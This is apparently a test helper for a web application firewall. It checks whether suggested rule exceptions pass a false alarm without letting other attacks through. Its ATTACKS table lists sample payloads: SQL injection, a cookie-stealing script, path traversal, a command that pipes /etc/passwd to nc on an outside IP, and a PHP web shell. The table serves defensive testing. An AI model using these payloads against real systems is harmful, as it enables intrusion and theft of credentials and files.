// Whether the exception that an event suggests lets a false alarm pass, and nothing else.

import type { WafEvent } from "../../src/engine/events/event.ts";
import { memorySink } from "../../src/engine/events/sinks.ts";
import { suggestException } from "../../src/engine/events/suggest-exception.ts";
import { createWaf } from "../../src/engine/firewall/standard-waf.ts";
import { requestFrom } from "../../src/request/model/memory-request.ts";
import type { RequestView } from "../../src/request/view/request-view.ts";
import { managedRulesets } from "../../src/rules/managed/index.ts";

/** The managed rules with the rim enforced: what is off by default because it says too little, and only logs, blocks. */
const RIM = {
  ref: "core",
  action: "execute",
  expression: "true",
  action_parameters: {
    id: "wirewall-core",
    overrides: {
      categories: [
        { category: "paranoia-level-2", enabled: true },
        { category: "confidence-low", enabled: true, action: "block" },
      ],
    },
  },
} as const;

function firewall(exception: object | undefined) {
  const sink = memorySink({ limit: 1 });
  const rules = exception === undefined ? [RIM] : [exception, RIM];
  const entry = { id: "entry", name: "Managed", kind: "zone", phase: "http_request_firewall_managed", rules };
  const waf = createWaf({ rulesets: [entry] } as Parameters<typeof createWaf>[0], {
    managed: managedRulesets,
    events: [sink],
    oversize: "inspect",
    onError: (error) => {
      throw error;
    },
  });
  return { waf, sink };
}

let rim: ReturnType<typeof firewall> | undefined;

/** Attacks, each enough by itself, by their class. */
const ATTACKS: Readonly<Record<string, string>> = {
  sqli: "1' UNION SELECT password FROM users--",
  xss: "<script>alert(document.cookie)</script>",
  traversal: "../../../../etc/passwd",
  rce: "; cat /etc/passwd | nc 203.0.113.7 4444",
  php: "<?php system($_GET['c']); ?>",
};

/** What became of one alarm. */
export interface ExceptionVerdict {
  /** Rules that the exception is for. */
  readonly rules: readonly string[];
  /** What is wrong; empty when the exception does what it should. */
  readonly faults: readonly string[];
  /** The exception skips a rule as a whole: no single input could be hidden. */
  readonly isWhole: boolean;
  /** Attacks of other classes that were sent in the excepted inputs. */
  readonly attacks: number;
}

/** @param view gives the request anew each time. @returns undefined when the rim lets it pass */
export function exceptionOf(view: () => RequestView): ExceptionVerdict | undefined {
  rim ??= firewall(undefined);
  rim.sink.clear();
  const { action } = rim.waf.evaluateSync(view());
  const [event] = rim.sink.events;
  if (action === "allow" || event === undefined) return undefined;
  return judged(JSON.parse(JSON.stringify(event)), view);
}

function judged(event: WafEvent, view: () => RequestView): ExceptionVerdict {
  const suggestion = suggestException(event);
  const told = event.matches.filter(({ decisive }) => decisive).map(({ rule }) => rule.ref);
  if (suggestion === undefined) return { rules: told, faults: ["no exception"], isWhole: false, attacks: 0 };
  const { targets = [], rules = {} } = suggestion.rule.action_parameters as unknown as SkipParameters;
  const { waf } = firewall(suggestion.rule);
  const faults: string[] = [];
  const decision = waf.evaluateSync(view());
  if (decision.action !== "allow") {
    const by = "by" in decision ? decision.by?.ref : "";
    faults.push(`still refused by ${by}`);
  }
  const holdsPath = targets.every(({ field }) => !/path|uri$/.test(field));
  const isEverywhere = suggestion.rule.expression === "true";
  if (holdsPath && !isEverywhere) {
    const elsewhere = elsewhereOf(view());
    if (elsewhere !== undefined && waf.evaluateSync(elsewhere).action === "allow")
      faults.push("passes on another path");
  }
  const excepted = new Set(
    [...event.matches, ...(event.further ?? [])].flatMap(({ rule }) => rule.categories ?? []),
  );
  let attacks = 0;
  for (const [attack, payload] of Object.entries(ATTACKS)) {
    if (excepted.has(attack)) continue;
    for (const target of targets) {
      const request = attackIn(target, payload, event.request.path);
      if (request === undefined) continue;
      attacks++;
      if (waf.evaluateSync(request).action === "allow")
        faults.push(`${attack} passes in ${target.field}[${target.key}]`);
    }
  }
  return {
    rules: [...new Set([...targets.map(({ rule }) => rule), ...Object.values(rules).flat()])],
    faults,
    isWhole: Object.keys(rules).length > 0,
    attacks,
  };
}

interface SkipParameters {
  readonly targets?: readonly { readonly rule: string; readonly field: string; readonly key?: string }[];
  readonly rules?: Readonly<Record<string, readonly string[]>>;
}

function elsewhereOf(view: RequestView): RequestView | undefined {
  if (!view.target.startsWith("/")) return undefined;
  return Object.create(view, { target: { value: `/elsewhere${view.target}` } });
}

/** A request with the payload in the excepted input. */
function attackIn(
  { field, key }: { readonly field: string; readonly key?: string },
  payload: string,
  path: string,
): RequestView | undefined {
  if (key === undefined || !/^\/[\w./-]*$/.test(path)) return undefined;
  const url = `https://shop.example${path}`;
  const pair = `${encodeURIComponent(key)}=${encodeURIComponent(payload)}`;
  switch (field) {
    case "http.request.uri.args":
      return requestFrom({ url: `${url}?${pair}` });
    case "http.request.body.form":
      return requestFrom({
        url,
        method: "POST",
        headers: { "content-type": "application/x-www-form-urlencoded" },
        body: pair,
      });
    case "wirewall.request.body.json.values": {
      if (!/^[\w-]+$/.test(key)) return undefined;
      const body = JSON.stringify({ [key]: payload });
      return requestFrom({ url, method: "POST", headers: { "content-type": "application/json" }, body });
    }
    default:
      return undefined;
  }
}
